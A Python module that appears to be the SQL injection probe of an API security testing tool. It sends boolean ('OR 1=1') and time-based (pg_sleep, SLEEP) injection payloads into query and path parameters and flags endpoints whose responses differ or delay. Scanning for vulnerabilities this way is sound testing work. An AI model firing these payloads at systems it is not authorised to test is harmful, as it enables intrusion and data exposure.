"""What is put into SQL as text changes what is asked: seen by what is answered, and by how long it takes."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from backwright.verify.probes.consumption import longest
from backwright.verify.probes.probe import Notes, Outcome
from backwright.verify.target.calling import Sent, Unreachable
from backwright.verify.target.contract import Operation
from backwright.verify.target.exploring import World

IDS = ("API8:2023",)
NAME = "SQL"
WHY = "A statement that is put together from text answers whatever the text asks, and no error says so."
TRUE, FALSE = "1'='1", "1'='2"
CONDITIONS = ("{word}' OR '{holds}", "{word}%' OR '{holds}' -- ", "{word}') OR ('{holds}", "{word}%') OR '{holds}' -- ",
              "{word}')) OR '{holds}' -- ")  # fmt: skip
NUMBERS = (("0 OR 1=1", "0 OR 1=2"), ("0) OR (1=1", "0) OR (1=2"))
SLEEPS = (
    "{word}' OR (SELECT 1 FROM pg_sleep({seconds})) = 1 -- ", "{word}'; SELECT pg_sleep({seconds}) -- ",
    "{word}' OR SLEEP({seconds}) -- ", "{word}%' OR (SELECT 1 FROM pg_sleep({seconds})) = 1 -- ",
)  # fmt: skip
SECONDS = 2


def run(world: World) -> Outcome:
    """Each parameter of each list gets conditions that hold and their like that do not hold, and texts that sleep.

    A list that is longer for what holds, again and again, or an answer that takes as long as it was told to,
    is a finding.
    """
    notes = Notes(world)
    for operation in world.operations:
        if operation.method != "GET" or notes.late(operation.name):
            continue
        caller = next(iter(world.callers), None)
        path = world.path_for(operation, caller)
        if path is None:
            continue
        for name, made in _places(world, operation, path):
            try:
                _judge(world, notes, operation, name, made)
            except Unreachable as error:
                notes.found(operation.name, f"no answer to SQL in `{name}`: {error}")
    return notes.outcome()


def _places(
    world: World, operation: Operation, path: dict[str, str]
) -> Iterator[tuple[str, Callable[[str], Sent]]]:
    """Where texts can be put, with the request that puts one there."""
    caller = next(iter(world.callers), None)

    def in_query(name: str) -> Callable[[str], Sent]:
        return lambda text: world.request(operation, caller, path, query={name: text})

    def in_path(name: str) -> Callable[[str], Sent]:
        return lambda text: world.request(operation, caller, {**path, name: text})

    for parameter in operation.parameters:
        if parameter.where == "query":
            yield parameter.name, in_query(parameter.name)
        elif parameter.where == "path":
            yield parameter.name, in_path(parameter.name)


def _judge(world: World, notes: Notes, operation: Operation, name: str, made: Callable[[str], Sent]) -> None:
    word = world.sampler.word()
    pairs = [(each.format(word=word, holds=TRUE), each.format(word=word, holds=FALSE)) for each in CONDITIONS]
    for holds, fails in (*pairs, *NUMBERS):
        notes.tried += 1
        if all(_length(world, made(holds)) > _length(world, made(fails)) >= 0 for _ in range(2)):
            notes.found(
                operation.name, f"`{name}` is put into SQL: it shows more for what holds", made(holds)
            )
            return
    for each in SLEEPS:
        if _slept(world, made, each, word):
            text = each.format(word=word, seconds=SECONDS)
            notes.found(operation.name, f"`{name}` is put into SQL: it sleeps when told to", made(text))
            return


def _length(world: World, sent: Sent) -> int:
    """How much a list shows; less than nothing where it is refused."""
    answer = world.client.send(sent)
    return longest(answer.json()) if answer.accepted else -1


def _slept(world: World, made: Callable[[str], Sent], text: str, word: str) -> bool:
    def seconds(wanted: int) -> Any:
        return world.client.send(made(text.format(word=word, seconds=wanted))).seconds

    long = SECONDS * 0.75
    return all(seconds(SECONDS) > long > seconds(0) for _ in range(2))
